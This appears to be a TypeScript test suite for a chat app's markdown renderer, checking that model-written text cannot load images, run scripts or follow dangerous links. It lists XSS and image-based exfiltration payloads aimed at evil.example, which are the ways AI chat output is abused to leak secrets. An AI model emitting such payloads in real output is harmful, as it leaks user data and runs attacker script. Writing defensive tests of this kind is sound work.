import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { markdownBlocks } from "../../src/chat/markdown.ts";

const html = (source: string): string => markdownBlocks(source).join("");

describe("ATK-42: nothing in model text loads or runs anything", () => {
  const attacks = [
    "![x](https://evil.example/?d=secret)",
    "![x][r]\n\n[r]: https://evil.example/?d=secret",
    '<img src="https://evil.example/x.png">',
    "<svg onload=alert(1)></svg><script>alert(1)</script>",
    '<div style="background:url(https://evil.example)">x</div>',
    "[click](javascript:alert(1))",
    "[click](command:workbench.action.terminal.new)",
    "[click](vscode://x/y)",
    "[click](data:text/html,<script>1</script>)",
    '<https://evil.example/"onmouseover=alert(1)>',
    '[x](https://a.example "t\\" onclick=alert(1)")',
  ];
  for (const attack of attacks) {
    test(attack.split("\n")[0] ?? "", () => {
      const made = html(attack);
      assert.doesNotMatch(made, /<(img|svg|script|style|iframe|link|object|video|source)\b/i);
      assert.doesNotMatch(made, /<[^>]*\s(href|src|style|on\w+)=/i);
      assert.doesNotMatch(made, /data-url="(?!https?:)/i);
    });
  }

  test("an image is shown as the text it is written as", () => {
    assert.match(html("![alt](https://a.example/i.png)"), /!\[alt\]\(https:\/\/a\.example\/i\.png\)/);
  });

  test("a link shows its whole address and only asks", () => {
    const made = html("[docs](https://a.example/path?q=1)");
    assert.match(made, /title="https:\/\/a\.example\/path\?q=1"/);
    assert.doesNotMatch(made, /href/);
  });
});

test("ATK-45: bidi characters in prose and code are made visible", () => {
  assert.match(html("a \u202e b `c\u2066`"), /⟨U\+202E⟩.*⟨U\+2066⟩/);
});

test("while text streams in, finished blocks stay as they are", () => {
  const first = markdownBlocks("# Title\n\nOne para");
  const later = markdownBlocks("# Title\n\nOne paragraph.\n\n- a\n- b\n\n```py\nx");
  assert.equal(first[0], later[0]);
  assert.deepEqual([first.length, later.length], [2, 4]);
  assert.match(later[3] ?? "", /<pre><code>x/);
});
